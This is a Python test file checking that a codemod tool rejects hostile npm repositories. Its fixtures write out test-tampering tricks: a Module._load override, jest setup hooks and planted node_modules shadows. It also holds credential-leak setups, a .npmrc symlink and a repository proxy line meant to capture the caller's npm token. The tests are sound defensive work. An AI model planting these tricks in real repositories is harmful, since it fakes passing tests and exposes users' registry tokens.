"""A hostile npm repository end to end: the tamper gate and the copy's watch are the ecosystem's too.

- `agentic-codemod gate worktree` (the real CLI, a real git worktree of the npm fixture) refuses a
  candidate that adds what could change how its tests run or read — a .mocharc, a jest config with a
  setup file, a node --require hook, a module mock, a skipped test — the way it refuses a new conftest.py
  in a Python repository; a plain source edit passes the same gate.
- `agentic-codemod run --offline` (real npm and node in the sandbox) on a repository whose own test
  writes lib/client.js during the run, a module node resolves before the candidate's lib/client/index.js:
  the baseline is tampered, and the run ends requires_human naming the file, never green.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from fixtures_support import ROOT, materialize

from agentic_codemod.tools import sandbox

TASKS = ROOT / "fixtures" / "npm-tasks"
GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]
HOSTILE = {
    ".mocharc.yml": "require: ./test/hook.js\nspec: test\n",
    "jest.config.js": 'module.exports = { setupFilesAfterEach: ["./test/hook.js"] };\n',
    "test/hook.js": 'const Module = require("module");\nModule._load = () => ({ ok: true });\n',
    "__mocks__/acme-sdk.js": "module.exports = { connect: () => ({ fetch: () => ({ url: '' }) }) };\n",
}


END_TO_END = (
    pytest.mark.slow,
    pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed"),
    pytest.mark.skipif(sandbox.probe() is not None, reason=f"bwrap cannot start here: {sandbox.probe()}"),
)


def end_to_end(test: Callable[..., None]) -> Callable[..., None]:
    """A run of the real CLI, with real npm and node in the sandbox: slow, and skipped without them."""
    for mark in END_TO_END:
        test = mark(test)
    return test


def commit(repo: Path, message: str) -> None:
    """Everything in the repository's tree, committed (a hostile repository's own history)."""
    subprocess.run([*GIT, "add", "-A"], cwd=repo, check=True)
    subprocess.run([*GIT, "commit", "-qm", message], cwd=repo, check=True)


def with_test_helper(repo: Path, helper: str) -> None:
    """test/helper.js holding `helper`, required first by the fixture's orders and reports tests."""
    (repo / "test" / "helper.js").write_text(helper)
    for name in ("orders", "reports"):
        test_file = repo / "test" / f"{name}.test.js"
        test_file.write_text(
            test_file.read_text().replace('"use strict";\n', '"use strict";\nrequire("./helper");\n')
        )


@pytest.fixture
def npm_repo(tmp_path: Path) -> Path:
    dest = tmp_path / "npm-app"
    materialize.materialize(ROOT / "fixtures" / "npm-app", dest)
    return dest


ALLOWED = ("src/**", "test/**", "__mocks__/**", ".mocharc.yml", "jest.config.js")  # scope is not the point


def gate(repo: Path, *, task: bool = True) -> tuple[int, dict[str, object]]:
    """The CLI on the worktree; its verdict file (worktree-gate.json in --run-dir). Without `task` the
    gate has only the allowed paths: no SDK, so nothing says the repository is npm's."""
    run_dir = repo.parent / "gate-run"
    argv = [sys.executable, "-m", "agentic_codemod", "gate", "worktree", "--worktree", str(repo)]
    argv += ["--task", str(TASKS / "acme-sdk-2.yml")] if task else []
    argv += ["--run-dir", str(run_dir)]
    argv += [a for glob in ALLOWED for a in ("--allowed-path", glob)]
    env = {**os.environ, "AGNO_TELEMETRY": "false"}
    done = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=env)
    verdict = run_dir / "worktree-gate.json"
    assert verdict.is_file(), done.stdout + done.stderr
    return done.returncode, json.loads(verdict.read_text())


def tamper_findings(verdict: dict[str, object]) -> list[str]:
    reasons = verdict["reasons"]
    assert isinstance(reasons, list)
    return [r.removeprefix("test_tamper: ") for r in reasons if r.startswith("test_tamper: ")]


def test_a_candidate_wiring_the_test_runner_is_refused_by_the_worktree_gate(npm_repo: Path) -> None:
    for rel, text in HOSTILE.items():
        (npm_repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (npm_repo / rel).write_text(text)
    orders = npm_repo / "test" / "orders.test.js"
    orders.write_text(orders.read_text().replace('test.it("loads', 'test.it.skip("loads'))
    code, verdict = gate(npm_repo)
    assert code == 1 and verdict["outcome"] == "rejected", verdict
    found = tamper_findings(verdict)
    for expected in (
        "new test-runner configuration: .mocharc.yml",
        "new test-runner configuration: jest.config.js",
        "setupFilesAfterEach introduced in jest.config.js",
        "Module._load introduced in test/hook.js",
        "new module mock: __mocks__/acme-sdk.js",
        "skip marker added in test/orders.test.js: 0 at base, 1 now",
    ):
        assert expected in found, found


def test_a_plain_source_edit_passes_the_same_gate(npm_repo: Path) -> None:
    orders = npm_repo / "src" / "orders.js"
    orders.write_text(orders.read_text() + "\n// a comment\n")
    code, verdict = gate(npm_repo)
    assert tamper_findings(verdict) == [] and code == 0, verdict


def test_without_a_task_every_ecosystem_reads_the_worktree_not_only_python(npm_repo: Path) -> None:
    """A gate given only allowed paths (a BMAD loop's): the npm hooks and a changed package.json are still
    refused, as with the task (once the gate fell back to the Python adapter alone and passed them)."""
    for rel, text in HOSTILE.items():
        (npm_repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (npm_repo / rel).write_text(text)
    manifest = npm_repo / "package.json"
    manifest.write_text(manifest.read_text().replace('"acme-sdk": "^1.0.0"', '"acme-sdk": "file:../evil"'))
    code, verdict = gate(npm_repo, task=False)
    assert code == 1 and verdict["outcome"] == "rejected", verdict
    found = tamper_findings(verdict)
    assert "new test-runner configuration: .mocharc.yml" in found, found
    assert "Module._load introduced in test/hook.js" in found, found
    reasons = verdict["reasons"]
    assert isinstance(reasons, list)
    assert any(r.startswith("manifest: ") and "package.json" in r for r in reasons), reasons


def test_without_a_task_a_plain_source_edit_still_passes(npm_repo: Path) -> None:
    orders = npm_repo / "src" / "orders.js"
    orders.write_text(orders.read_text() + "\n// a comment\n")
    code, verdict = gate(npm_repo, task=False)
    assert code == 0 and verdict["outcome"] == "pass", verdict


CLIENT = 'module.exports = { name: () => "client" };\n'
# The repository's own test: it passes, and leaves a module behind that node loads instead of the
# candidate's folder module for every later require("../lib/client").
WRITES_A_SHADOW = """const test = require("node:test");
const assert = require("node:assert");
const fs = require("node:fs");
const path = require("node:path");

test("the client has a name", () => {
  fs.writeFileSync(path.join(__dirname, "..", "lib", "client.js"), 'module.exports = { name: () => "x" };');
  assert.strictEqual(require("../lib/client/index.js").name(), "client");
});
"""


@end_to_end
def test_a_test_run_that_plants_a_module_shadowing_a_candidate_folder_is_never_green(
    npm_repo: Path, registry: str, run_codemod: Callable[..., object]
) -> None:
    (npm_repo / "lib" / "client").mkdir(parents=True)
    (npm_repo / "lib" / "client" / "index.js").write_text(CLIENT)
    (npm_repo / "test" / "client.test.js").write_text(WRITES_A_SHADOW)
    commit(npm_repo, "lib/client")
    result = run_codemod(npm_repo, TASKS / "acme-sdk-1.1-plain.yml", packages=False)
    m = result.manifest  # type: ignore[attr-defined]
    assert result.code == 3 and m["status"] == "requires_human", m["reason"]
    baseline = m["verifications"][0]
    assert baseline["tampered"] == ["lib/client.js (new code file)"], baseline
    assert not baseline["passed"] and baseline["canary"] == "failed"
    assert "lib/client.js" in m["reason"]


@end_to_end
@pytest.mark.parametrize("target", ["new", "existing"])
def test_a_symlink_where_the_tool_writes_the_callers_npm_token_gets_nothing(
    npm_repo: Path,
    registry: str,
    run_codemod: Callable[..., object],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    target: str,
) -> None:
    """The caller's registry token goes into .codemod-npmrc in the copy npm runs on, for one npm call. A
    repository committing that name as a symlink out of it (to a new file, or over an existing one) gets
    the token written nowhere outside, and the run goes on with the token where npm reads it."""
    token = "npm_HOSTILEREPO" + "7" * 20
    user = tmp_path / "user.npmrc"
    user.write_text(f"//127.0.0.1/:_authToken={token}\n")
    monkeypatch.setenv("NPM_CONFIG_USERCONFIG", str(user))
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "stolen.npmrc"
    if target == "existing":
        victim.write_text("untouched\n")
    os.symlink(victim, npm_repo / ".codemod-npmrc")
    commit(npm_repo, "npmrc link")
    result = run_codemod(npm_repo, TASKS / "acme-sdk-1.1-plain.yml", packages=False)
    m = result.manifest  # type: ignore[attr-defined]
    assert m["verifications"], m["reason"]  # npm ran: installs and both test runs
    assert [p.name for p in outside.iterdir()] == (["stolen.npmrc"] if target == "existing" else [])
    if target == "existing":
        assert victim.read_text() == "untouched\n"


def test_the_token_is_never_written_through_a_swapped_in_folder_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Install scripts run in a box that can write the run's environment folder: one could replace the
    copy npm runs in (ENV/project) with a symlink out of it before the next npm call. The call is then
    refused, and the caller's token lands nowhere."""
    from agentic_codemod.adapters.npm.update import run_npm
    from agentic_codemod.tools.verification import SandboxRunner

    user = tmp_path / "user.npmrc"
    user.write_text("//registry.example/:_authToken=npm_SWAPPED" + "9" * 20 + "\n")
    monkeypatch.setenv("NPM_CONFIG_USERCONFIG", str(user))
    outside = tmp_path / "outside"
    outside.mkdir()
    project = tmp_path / "env" / "project"
    project.parent.mkdir()
    project.symlink_to(outside)
    result = run_npm(["npm", "--version"], project, SandboxRunner({"PATH": "/usr/bin:/bin"}, 2000), 30)
    assert not result.ok and "project" in (result.error or "")
    assert list(outside.iterdir()) == []


@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_a_package_json_nested_past_the_parsers_depth_is_bad_input_naming_it(
    npm_repo: Path, registry: str, run_codemod: Callable[..., object]
) -> None:
    """Before, json's RecursionError escaped the readers: the run ended `failed` with no file named."""
    manifest = json.loads((npm_repo / "package.json").read_text())
    text = json.dumps(manifest)[:-1] + ', "x": ' + "[" * 100_000 + "]" * 100_000 + "}\n"
    (npm_repo / "package.json").write_text(text)
    subprocess.run([*GIT, "commit", "-qam", "deep"], cwd=npm_repo, check=True)
    result = run_codemod(npm_repo, TASKS / "acme-sdk-1.1-plain.yml", packages=False)
    m = result.manifest  # type: ignore[attr-defined]
    assert result.code == 2 and m["status"] == "bad_input", m["reason"]  # type: ignore[attr-defined]
    assert m["reason"].startswith("package.json: not valid JSON: nested deeper than this tool reads")


# The repository's own test helper: "test fixtures" that put a 1.x client where node looks first for
# require("acme-sdk") from src/ (src/node_modules), so the service's code never loads the installed SDK.
PLANTS_AN_OLD_SDK = """const fs = require("fs"), path = require("path");
const dir = path.join(__dirname, "..", "src", "node_modules", "acme-sdk");
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify({ name: "acme-sdk", main: "client" }));
fs.writeFileSync(path.join(dir, "client"), [
  "class Client { constructor(u) { this.baseUrl = u; } fetch(p) { return { url: this.baseUrl + p }; } }",
  "module.exports = { Client, connect: (u) => new Client(u), VERSION: '1.0.0' };",
].join("\\n"));
"""


@end_to_end
def test_an_old_sdk_the_tests_write_into_a_node_modules_below_the_root_is_never_green(
    npm_repo: Path, registry: str, run_codemod: Callable[..., object]
) -> None:
    """The 2.0.0 bump breaks the app's tests (the plain task ends exit 3). With a helper that writes a 1.x
    client into src/node_modules/acme-sdk as the tests start, src/orders.js loaded it in both runs while
    the canary, in test/, found the installed package: green, exit 0, run.json naming 2.0.0, nothing
    committed. A new package where node looks packages up is now tampering, whatever its suffix."""
    with_test_helper(npm_repo, PLANTS_AN_OLD_SDK)
    commit(npm_repo, "test fixtures")
    result = run_codemod(npm_repo, TASKS / "acme-sdk-2-plain.yml", packages=False)
    m = result.manifest  # type: ignore[attr-defined]
    assert result.code == 3 and m["status"] == "requires_human", m["reason"]
    baseline = m["verifications"][0]
    assert not baseline["passed"] and baseline["tampered"] == [
        "src/node_modules/acme-sdk/client (new file where modules are resolved)",
        "src/node_modules/acme-sdk/package.json (new file where modules are resolved)",
    ], baseline
    assert "src/node_modules/acme-sdk/client" in m["reason"]


@end_to_end
@pytest.mark.parametrize(
    "line", ["proxy={url}", '"proxy"={url}', "\ufeffproxy={url}"], ids=["plain", "quoted", "bom"]
)
def test_a_proxy_the_repository_names_never_sees_the_callers_token(
    line: str,
    npm_repo: Path,
    registry: str,
    run_codemod: Callable[..., object],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """One line in the repository's .npmrc, `proxy=http://attacker/`: the caller set no proxy, so npm sent
    every registry request of the installs, with the caller's `Authorization: Bearer` token, through it
    (the run was green). The run now stops before npm runs, naming the line; the proxy sees nothing. Also
    spelled as npm reads it and the first check did not (helper-39): quoted, after a byte order mark."""
    import http.server
    import threading

    seen: list[str] = []

    class Proxy(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(f"{self.path} {self.headers.get('Authorization')}")
            self.send_response(502)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    token = "npm_PROXIED" + "5" * 24
    user = tmp_path / "user.npmrc"
    user.write_text(f"//{registry.removeprefix('http://').rstrip('/')}/:_authToken={token}\n")
    monkeypatch.setenv("NPM_CONFIG_USERCONFIG", str(user))
    (npm_repo / ".npmrc").write_text(line.format(url=f"http://127.0.0.1:{server.server_address[1]}/") + "\n")
    commit(npm_repo, "npmrc")
    try:
        result = run_codemod(npm_repo, TASKS / "acme-sdk-1.1-plain.yml", packages=False)
    finally:
        server.shutdown()
        server.server_close()
    m = result.manifest  # type: ignore[attr-defined]
    assert seen == []
    assert result.code != 0 and m["status"] != "succeeded", m["reason"]  # type: ignore[attr-defined]
    assert ".npmrc line 1: `proxy` may not be set by the repository" in m["reason"], m["reason"]
    assert not m["verifications"]


@end_to_end
@pytest.mark.parametrize("target", ["/tmp", "../vendor/deps"], ids=["outside", "inside"])
def test_a_committed_node_modules_link_below_the_root_requires_a_human_before_any_test_runs(
    target: str, npm_repo: Path, registry: str, run_codemod: Callable[..., object]
) -> None:
    """helper-39: `src/node_modules` committed as a link (to /tmp, or to a committed folder) and a test
    helper writing a 1.x client where it leads: nothing new in the copy under a node_modules path, and the
    breaking 2.0.0 bump was green (exit 0). A link where node looks packages up now stops the run first."""
    helper = PLANTS_AN_OLD_SDK.replace(
        'path.join(__dirname, "..", "src", "node_modules", "acme-sdk")',
        'path.join(fs.realpathSync(path.join(__dirname, "..", "src", "node_modules")), "acme-sdk")',
    )
    with_test_helper(npm_repo, helper)
    (npm_repo / "vendor" / "deps").mkdir(parents=True)
    (npm_repo / "vendor" / "deps" / "README").write_text("vendored\n")
    os.symlink(target, npm_repo / "src" / "node_modules")
    commit(npm_repo, "linked node_modules")
    result = run_codemod(npm_repo, TASKS / "acme-sdk-2-plain.yml", packages=False)
    m = result.manifest  # type: ignore[attr-defined]
    assert result.code == 3 and m["status"] == "requires_human", m["reason"]
    assert "src/node_modules is a link committed in the repository" in m["reason"], m["reason"]
    assert not m["verifications"]
